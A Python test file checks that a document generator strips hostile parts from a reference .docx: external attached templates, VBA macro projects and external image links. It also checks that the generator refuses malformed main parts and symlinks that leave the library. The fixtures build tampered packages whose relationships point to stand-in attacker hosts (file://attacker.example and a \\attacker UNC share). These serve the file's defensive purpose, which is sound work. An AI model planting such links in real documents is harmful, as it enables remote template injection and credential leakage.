"""A reference .docx from a pull request is not trusted whole: only the parts a house style
needs reach a contract, every link out of the package and every macro is dropped, a main part
that is not a Word document is refused with the reason, and the file must be inside the
library."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import pytest

from generator.writers.docx.reference import default_reference

from .support import cli, draft, refused

SETTINGS_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rIdT" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/attachedTemplate" Target="file://attacker.example/share/t.dotm" '
    'TargetMode="External"/></Relationships>'
)
VBA_TYPE = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"


def tampered(edit: str) -> bytes:
    """The default reference with one hostile change."""
    src = zipfile.ZipFile(io.BytesIO(default_reference()))
    parts = {n: src.read(n) for n in src.namelist()}
    if edit == "attached-template":
        s = parts["word/settings.xml"].decode()
        parts["word/settings.xml"] = s.replace(
            "<w:zoom", '<w:attachedTemplate r:id="rIdT"/><w:zoom', 1
        ).encode()
        if 'xmlns:r="' not in s:
            raise AssertionError("settings.xml lacks the r namespace")
        parts["word/_rels/settings.xml.rels"] = SETTINGS_RELS.encode()
    elif edit == "macro":
        parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0 macro project"
        rels = parts["word/_rels/document.xml.rels"].decode()
        parts["word/_rels/document.xml.rels"] = rels.replace(
            "</Relationships>",
            f'<Relationship Id="rIdV" Type="{VBA_TYPE}" Target="vbaProject.bin"/></Relationships>',
        ).encode()
        ct = parts["[Content_Types].xml"].decode()
        parts["[Content_Types].xml"] = ct.replace(
            "</Types>",
            '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
        ).encode()
    elif edit == "external-image":
        rels = parts["word/_rels/document.xml.rels"].decode()
        parts["word/_rels/document.xml.rels"] = rels.replace(
            "</Relationships>",
            '<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/'
            '2006/relationships/image" Target="\\\\attacker\\share\\x.png" '
            'TargetMode="External"/></Relationships>',
        ).encode()
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for name, data in parts.items():
            z.writestr(name, data)
    return out.getvalue()


def drafted(minilib: Path, tmp_path: Path) -> zipfile.ZipFile:
    outcome = draft(minilib, tmp_path / "out", "small.yaml")
    assert outcome.code == 0, outcome.output
    return zipfile.ZipFile(tmp_path / "out" / "small.docx")


@pytest.mark.parametrize("edit", ["attached-template", "macro", "external-image"])
def test_library_reference_reaches_the_draft_without_links_or_macros(
    minilib: Path, tmp_path: Path, edit: str
) -> None:
    (minilib / "styles").mkdir()
    (minilib / "styles" / "reference.docx").write_bytes(tampered(edit))
    z = drafted(minilib, tmp_path)
    names = z.namelist()
    assert not [n for n in names if n.endswith(".bin") or "vba" in n.lower()], names
    for name in names:
        text = z.read(name).decode("utf-8", "replace")
        assert 'TargetMode="External"' not in text, name
        assert "attachedTemplate" not in text and "attacker" not in text, name
        assert "vbaProject" not in text and "macroEnabled" not in text, name
    assert "w:styles" in z.read("word/styles.xml").decode()


@pytest.mark.parametrize(
    ("root", "shown"),
    [
        ('<w:styles xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>', "styles"),
        ('<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>',
         "document"),
        ("<html/>", "html"),
    ],
)  # fmt: skip
def test_main_part_that_is_not_a_word_document_is_refused(
    minilib: Path, tmp_path: Path, root: str, shown: str
) -> None:
    src = zipfile.ZipFile(io.BytesIO(default_reference()))
    ref = tmp_path / "reference.docx"
    with zipfile.ZipFile(ref, "w") as z:
        for name in src.namelist():
            z.writestr(name, root if name == "word/document.xml" else src.read(name))
    outcome = cli(
        "draft", "--library", minilib, "-o", tmp_path / "out", "--reference-docx", ref,
        minilib / "deals" / "small.yaml",
    )  # fmt: skip
    if shown == "document":  # python-docx opens it, but there is no body to draft into
        detail = "its root is document, not w:document with a w:body"
    else:
        detail = f"its root is {shown}, not w:document with a w:body"
    refused(
        outcome,
        f"{ref}:1:1: error[reference-docx]: reference document's main part word/document.xml "
        f"is not a Word document ({detail}); refused",
        code=2,
    )


@pytest.mark.parametrize("how", ["file-link", "folder-link"])
def test_reference_docx_through_a_link_out_of_the_library_is_refused(
    minilib: Path, tmp_path: Path, how: str
) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "reference.docx").write_bytes(default_reference())
    if how == "file-link":
        (minilib / "styles").mkdir()
        (minilib / "styles" / "reference.docx").symlink_to(outside / "reference.docx")
    else:
        (minilib / "styles").symlink_to(outside)
    refused(
        draft(minilib, tmp_path / "out", "small.yaml"),
        "styles/reference.docx:1:1: error[symlink]: "
        "reached through a symbolic link that leaves the library; refused",
        code=2,
    )
    assert not (tmp_path / "out").exists() or not list((tmp_path / "out").iterdir())
